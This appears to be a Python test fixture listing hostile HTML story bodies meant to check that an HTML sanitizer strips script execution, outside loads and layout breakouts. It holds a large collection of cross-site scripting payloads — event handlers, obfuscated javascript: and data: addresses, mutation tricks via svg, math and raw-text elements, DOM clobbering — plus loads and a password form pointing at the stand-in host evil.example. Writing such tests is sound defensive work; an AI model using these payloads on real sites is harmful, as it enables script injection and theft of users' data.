"""Story bodies that try to run a script, to load something from elsewhere, or to break out of their place.

Whatever gets through sets `window.pwned` or asks `evil.example` for something, so that a browser can tell.
"""

from __future__ import annotations

RUN = "window.pwned=1"
FROM_HREF = f"javascript:{RUN}"

_HANDLERS = {
    "image error handler": f'<img src=x onerror="{RUN}">',
    "handler without quotes": f"<img src=x onerror={RUN}>",
    "handler after a slash": f'<img/src="x"/onerror="{RUN}">',
    "handler in capitals": f'<IMG SRC=x ONERROR="{RUN}">',
    "handler written with references": '<img src=x onerror="window&#46;pwned&#61;1">',
    "handler on a paragraph": f'<p onclick="{RUN}" onmouseover="{RUN}" style="inset:0">over it</p>',
    "handler on a crosshead": f'<h2 onfocus="{RUN}" tabindex="0" autofocus>head</h2>',
    "handler on a link": f'<a href="/a" onfocus="{RUN}" autofocus>link</a>',
    "handler on our own fact box": f'<section class="facts" onscroll="{RUN}"><h2>T</h2></section>',
    "handler on our own pull quote": f'<div class="pull" onpointerenter="{RUN}"><p>x</p></div>',
    "handler on an end tag": f'<p>x</p onclick="{RUN}"><p>y</p>',
    "handler after a line break in the tag": f'<img\nsrc=x\nonerror\n=\n"{RUN}"\n>',
    "handler after a null byte": f'<img src=x on\x00error="{RUN}">',
    "handler in a backquoted value": f'<img src=`x` onerror="{RUN}">',
    "handler hidden in another value": f'<a title="x>" href="/a" onclick="{RUN}">link</a>',
    "handler in a tag that never ends": f"<img src=x onerror={RUN} ",
    "handler in a value that never ends": f'<img src="x onerror={RUN}',
    "details that open": f'<details open ontoggle="{RUN}"><summary>more</summary>text</details>',
    "marquee": f'<marquee onstart="{RUN}">moving</marquee>',
    "whole page": f'<html onload="{RUN}"><body onload="{RUN}" background="//evil.example/a">x',
    "media": f'<video><source onerror="{RUN}"></video><audio src=x onerror="{RUN}">',
    "custom element": f'<x-card onclick="{RUN}" is="p">text</x-card>',
}

_ADDRESSES = {
    "script address": f'<a href="{FROM_HREF}">link</a>',
    "script address in mixed case": f'<a href="JaVaScRiPt:{RUN}">link</a>',
    "script address with a tab": f'<a href="java\tscript:{RUN}">link</a>',
    "script address with a newline": f'<a href="java\nscript:{RUN}">link</a>',
    "script address with written space": f'<a href="jav&#x09;ascr&#10;ipt:{RUN}">link</a>',
    "script address with a written colon": f'<a href="javascript&colon;{RUN}">link</a>',
    "script address in open references": f'<a href="&#106&#97&#118&#97&#115cript:{RUN}">link</a>',
    "script address with zeros": f'<a href="&#0000000000106;avascript:{RUN}">link</a>',
    "script address after control characters": f'<a href="\x01\x1f {FROM_HREF}">link</a>',
    "script address with a null byte": f'<a href="java\x00script:{RUN}">link</a>',
    "script address after a direction mark": f'<a href="\u202e{FROM_HREF}">link</a>',
    "script address with a host": f'<a href="javascript://evil.example/%0a{RUN}">link</a>',
    "view source of a script address": f'<a href="view-source:{FROM_HREF}">link</a>',
    "data address": f'<a href="data:text/html,<script>{RUN}</script>">link</a>',
    "data in base64": '<a href="data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ">link</a>',
    "vbscript address": '<a href="vbscript:window.pwned=1">link</a>',
    "blob and file": '<a href="blob:https://evil.example/1">a</a><a href="file:///a">b</a>',
    "address of another site without scheme": '<a href="//evil.example/">link</a>',
    "another site by backslash": '<a href="/\\evil.example/">a</a><a href="\\\\evil.example/">b</a>',
    "address of another site by a tab": '<a href="/\t/evil.example/">link</a>',
    "two addresses": f'<a href="{FROM_HREF}" href="/a">a</a><a href="/a" HREF="{FROM_HREF}">b</a>',
    "ping, target and download": '<a href="/a" ping="//evil.example/" target="x" download="a">link</a>',
    "image map": f'<map name="m"><area href="{FROM_HREF}"></map><img usemap="#m">',
    "base element": '<base href="//evil.example/"><a href="/a">link</a>',
    "link and meta elements": (
        f'<link rel="icon" href="//evil.example/a"><meta http-equiv="refresh" content="0;url={FROM_HREF}">'
    ),
    "picture sources": '<picture><source srcset="//evil.example/a"><img srcset="//evil.example/b 2x">',
    "citation addresses": f'<blockquote cite="{FROM_HREF}"><p>x</p></blockquote>',
}

_FORMS = {
    "form": f'<form action="{FROM_HREF}"><input autofocus onfocus="{RUN}"><button>Go</button></form>',
    "button with its own action": f'<button formaction="{FROM_HREF}" form="search">Go</button>',
    "password field": '<form action="//evil.example/"><input type="password" name="password"></form>',
    "image button": f'<input type="image" src="//evil.example/a.png" formaction="{FROM_HREF}">',
    "isindex": f'<isindex type="image" src="x" onerror="{RUN}">',
    "keygen and select": f'<keygen onfocus="{RUN}"><select autofocus onfocus="{RUN}"><option>x</select>',
}

_FOREIGN = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": '<script src="//evil.example/a.js"></script>',
    "script that never ends": f"<script>{RUN}",
    "script in a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script with odd end tag": f"<script>{RUN}</script\t\n junk>",
    "script after a slash": '<script/x src="//evil.example/a.js"></script>',
    "module preload": '<link rel="modulepreload" href="//evil.example/a.js">',
    "frame with its own page": f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;"></iframe>',
    "frame of a script address": f'<iframe src="{FROM_HREF}"></iframe><frameset onload="{RUN}">',
    "object and embed": f'<object data="{FROM_HREF}"><embed src="{FROM_HREF}"></object>',
    "drawing with handler": f'<svg onload="{RUN}"><circle r="9"/></svg>',
    "drawing with script": f"<svg><script>{RUN}</script></svg>",
    "drawing with animation": (
        f'<svg><a><animate attributeName="href" values="{FROM_HREF}"/><text y="20">x</text></a></svg>'
    ),
    "drawing that uses another": '<svg><use href="//evil.example/a.svg#x"/></svg>',
    "drawing with foreign object": f'<svg><foreignObject><img src=x onerror="{RUN}"></foreignObject></svg>',
    "style in a drawing": f'<svg></p><style><a title="</style><img src=x onerror={RUN}>">',
    "formula with address": f'<math><mtext href="{FROM_HREF}" xlink:href="{FROM_HREF}">x</mtext></math>',
    "formula that becomes a table": (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">'
    ),
    "formula with annotation": (
        f'<math><annotation-xml encoding="text/html"><img src=x onerror="{RUN}"></annotation-xml></math>'
    ),
    "form between formulas": (
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}></style>"
    ),
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "title": f'<title><a title="</title><img src=x onerror={RUN}>"></title>',
    "textarea": f'<textarea><a title="</textarea><img src=x onerror={RUN}>"></textarea>',
    "template": f'<template shadowrootmode="open"><img src=x onerror="{RUN}"></template>',
    "old raw elements": f'<xmp><a title="</xmp><img src=x onerror={RUN}>"></xmp><noembed></p>',
    "plain text to the end": f"<plaintext><img src=x onerror={RUN}>",
    "select with style": f"<select><style></select><img src=x onerror={RUN}></style>",
    "instruction and declaration": f'<?xml href="{FROM_HREF}"?><!ENTITY x "<img src=x onerror={RUN}>">',
    "character data section": f"<![CDATA[<img src=x onerror={RUN}>]]>",
}

_STYLES = {
    "style element": '<style>@import "//evil.example/a";p{background:url(//evil.example/b)}</style>',
    "style that never ends": "<style>body{display:none}",
    "style attribute that loads": '<p style="background:url(//evil.example/a.png)">x</p>',
    "style attribute that covers the page": '<div style="position:fixed;inset:0;z-index:9">x</div>',
    "style with an expression": f'<span style="font-weight:700;width:expression({RUN})">x</span>',
    "classes and hidden text": '<p class="appeal-banner closing-appeal masthead" hidden>x</p>',
}

_STRUCTURE = {
    "end of the story's place": "</p></div></article></main></body></html><h1>Another page</h1>",
    "comment that never ends": f"<!-- <img src=x onerror={RUN}>",
    "comment that ends early": f"<!--><img src=x onerror={RUN}>-->",
    "comment that ends oddly": f"<!--a--!><img src=x onerror={RUN}>-->",
    "start of a comment in a value": f'<a title="<!--" href="/a">x</a><img src=x onerror={RUN}>-->',
    "ids of the page": '<h2 id="main">a</h2><p id="more">b</p><section id="facts" class="facts">c',
    "ids that stand for properties": (
        '<a id="body" name="pwned" href="/a">a</a><form id="attributes"><input name="parentNode"></form>'
    ),
    "label of the page": '<section class="facts" aria-labelledby="main"><h2 id="x">a</h2></section>',
    "marks across blocks": "<b><p>a<i></b>b</p></i><a href='/a'><a href='/b'>c</p></a>",
    "lists without lists": "<li>a<ul>b<ol><li>c</ul>d</ol></li></li>",
    "boxes in boxes": '<div class="pull"><section class="facts"><blockquote>a</section>b</div>c',
    "table parts alone": f"<td>a</td><tr><caption>b<col><img src=x onerror={RUN}>",
    "null bytes": f"<\x00script>{RUN}</\x00script><im\x00g src=x onerror={RUN}>",
    "line separators": f"<p>a\u2028b\u2029</p><a href='java\u2028script:{RUN}'>c</a>",
    "text that turns round": "<p>\u202egnp.exe \u2067abc\u2066</p>",
    "escaped markup": f"<p>&lt;img src=x onerror={RUN}&gt; &amp;lt;script&amp;gt;</p>",
    "hard space written twice": "<p>&amp;nbsp; &nbsp;&lt;</p>",
    "numbers too large": f"<p>&#{'9' * 5000}; &#x{'f' * 5000}; &#xD800; &#0; &#1114112;</p>",
    "full-width angle brackets": f"<p>\uff1cscript\uff1e{RUN}\uff1c/script\uff1e</p>",
    "deep marks": "<b>" * 3000 + "deep",
    "deep boxes": '<ul><li><div class="pull"><blockquote>' * 800 + "deep",
}

_ALL = _HANDLERS | _ADDRESSES | _FORMS | _FOREIGN | _STYLES | _STRUCTURE

# Each body starts with a paragraph that must always reach the reader.
HOSTILE_BODIES: list[tuple[str, str]] = [
    (name, f"<p>Still here.</p>{payload}") for name, payload in _ALL.items()
]
